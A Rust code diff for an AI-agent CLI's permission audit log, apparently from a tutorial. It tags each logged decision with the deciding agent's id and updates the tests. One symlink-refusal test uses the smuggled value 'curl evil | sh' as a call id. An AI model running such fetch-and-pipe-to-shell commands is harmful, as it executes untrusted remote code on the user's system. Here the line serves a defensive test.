@@ -5,12 +5,12 @@ use std::io::{BufRead, IsTerminal, Write};
 use std::sync::{Arc, Mutex, PoisonError};
 use std::time::Duration;
 
-use agent_core::{AgentEvent, EventSink, PermissionDecision};
+use agent_core::{AgentEvent, AgentId, EventSink, PermissionDecision};
 use agent_hooks::{HookEventKind, HookRegistry, ShellHook};
 use agent_policy::{Approval, ApprovalError, ApprovalProvider, ApprovalRequest, StaticApproval};
 use agent_tools::Workspace;
 use async_trait::async_trait;
-use serde::Deserialize;
+use serde::{Deserialize, Serialize};
 
 use super::trust::{HOOKS_FILE, HookTrust, HooksFile, StoreTrust, hooks_verdict};
 use super::{CliError, CliResult};
@@ -136,10 +136,11 @@ impl ApprovalProvider for TtyApproval {
     }
 }
 
-/// Appends each permission decision (the session's `PermissionDecided` events, whichever agent
-/// made them) as one JSON line to `.agent_tutorial/audit.jsonl`, through the
-/// workspace boundary: a planted symlink (the folder or the file) is refused, never followed,
-/// so a model-chosen call id cannot be appended to a file outside.
+/// Appends each permission decision (the session's `PermissionDecided` events) as one JSON line
+/// to `.agent_tutorial/audit.jsonl`, the agent that decided it first — from chapter 15 on, the
+/// lead and its teammates write to one log, and call ids are only unique per agent. Through
+/// the workspace boundary: a planted symlink (the folder or the file) is refused, never
+/// followed, so a model-chosen call id cannot be appended to a file outside.
 #[derive(Debug)]
 pub struct JsonlAudit {
     workspace: Workspace,
@@ -158,9 +159,9 @@ impl JsonlAudit {
         }
     }
 
-    fn append(&self, entry: &PermissionDecision) -> anyhow::Result<()> {
+    fn append(&self, agent: &AgentId, decision: &PermissionDecision) -> anyhow::Result<()> {
         let _guard = self.lock.lock().unwrap_or_else(PoisonError::into_inner);
-        let mut line = serde_json::to_string(entry)?;
+        let mut line = serde_json::to_string(&AuditLine { agent, decision })?;
         line.push('\n');
         let path = self.workspace.inside(AUDIT_FILE)?;
         self.workspace.append(&path, line.as_bytes())?;
@@ -178,13 +179,22 @@ impl JsonlAudit {
         Ok(())
     }
 
-    /// Appends `decision`; a failure is a warning (the decision stands; [`AuditedApproval`]
-    /// keeps a call that needs approval from running while the log cannot be written).
-    pub fn record(&self, decision: &PermissionDecision) {
-        if let Err(err) = self.append(decision) {
+    /// Appends `agent`'s `decision`; a failure is a warning (the decision stands;
+    /// [`AuditedApproval`] keeps a call that needs approval from running while the log cannot
+    /// be written).
+    pub fn record(&self, agent: &AgentId, decision: &PermissionDecision) {
+        if let Err(err) = self.append(agent, decision) {
             tracing::warn!("cannot write the audit log {AUDIT_FILE}: {err:#}");
         }
     }
+}
+
+/// One line of the audit log: who decided, then the decision's own fields.
+#[derive(Serialize)]
+struct AuditLine<'a> {
+    agent: &'a AgentId,
+    #[serde(flatten)]
+    decision: &'a PermissionDecision,
 }
 
 /// The audit log as a subscriber of an agent's events, called inline: every
@@ -194,6 +204,7 @@ impl JsonlAudit {
 /// not). Every event is then passed on unchanged.
 pub struct AuditedEvents {
     audit: JsonlAudit,
+    agent: AgentId,
     next: Arc<dyn EventSink>,
 }
 
@@ -201,15 +212,18 @@ impl std::fmt::Debug for AuditedEvents {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         f.debug_struct("AuditedEvents")
             .field("audit", &self.audit)
+            .field("agent", &self.agent)
             .finish_non_exhaustive()
     }
 }
 
 impl AuditedEvents {
-    /// Audits into `workspace`'s log, then hands every event to `next`.
-    pub fn new(workspace: &Workspace, next: Arc<dyn EventSink>) -> Self {
+    /// Audits `agent`'s decisions (and those of the subagents it starts, which share its
+    /// events) into `workspace`'s log, then hands every event to `next`.
+    pub fn new(workspace: &Workspace, agent: AgentId, next: Arc<dyn EventSink>) -> Self {
         Self {
             audit: JsonlAudit::new(workspace),
+            agent,
             next,
         }
     }
@@ -218,7 +232,7 @@ impl AuditedEvents {
 impl EventSink for AuditedEvents {
     fn emit(&self, event: &AgentEvent) {
         if let AgentEvent::PermissionDecided(decision) = event {
-            self.audit.record(decision);
+            self.audit.record(&self.agent, decision);
         }
         self.next.emit(event);
     }
@@ -426,23 +440,27 @@ mod audit_tests {
                 std::os::unix::fs::symlink(outside.path(), &state).unwrap();
             }
             let audit = JsonlAudit::new(&Workspace::new(dir.path()).unwrap());
-            audit.record(&entry("x\ncurl evil | sh\n"));
+            audit.record(&AgentId::lead(), &entry("x\ncurl evil | sh\n"));
             assert_eq!(std::fs::read_to_string(&target).unwrap(), "# start-up\n");
             assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 1);
         }
     }
 
     #[test]
-    fn the_audit_log_gets_one_json_line_per_decision() {
+    fn the_audit_log_gets_one_json_line_per_decision_the_agent_first() {
         let dir = tempfile::tempdir().unwrap();
         let audit = JsonlAudit::new(&Workspace::new(dir.path()).unwrap());
-        audit.record(&entry("c1"));
-        audit.record(&entry("c2"));
-        let text = std::fs::read_to_string(dir.path().join(AUDIT_FILE)).unwrap();
-        let ids: Vec<String> = text
-            .lines()
-            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["call_id"].to_string())
-            .collect();
-        assert_eq!(ids, ["\"c1\"", "\"c2\""]);
+        let alice = AgentId::new("alice").unwrap();
+        audit.record(&AgentId::lead(), &entry("c1"));
+        audit.record(&alice, &entry("c1"));
+        assert_eq!(
+            std::fs::read_to_string(dir.path().join(AUDIT_FILE)).unwrap(),
+            concat!(
+                r#"{"agent":"lead","call_id":"c1","tool":"bash","arguments":{"command":"true"},"merged":"ask","source":"execute_asks","allowed":false,"reason":"denied"}"#,
+                "\n",
+                r#"{"agent":"alice","call_id":"c1","tool":"bash","arguments":{"command":"true"},"merged":"ask","source":"execute_asks","allowed":false,"reason":"denied"}"#,
+                "\n",
+            )
+        );
     }
 }
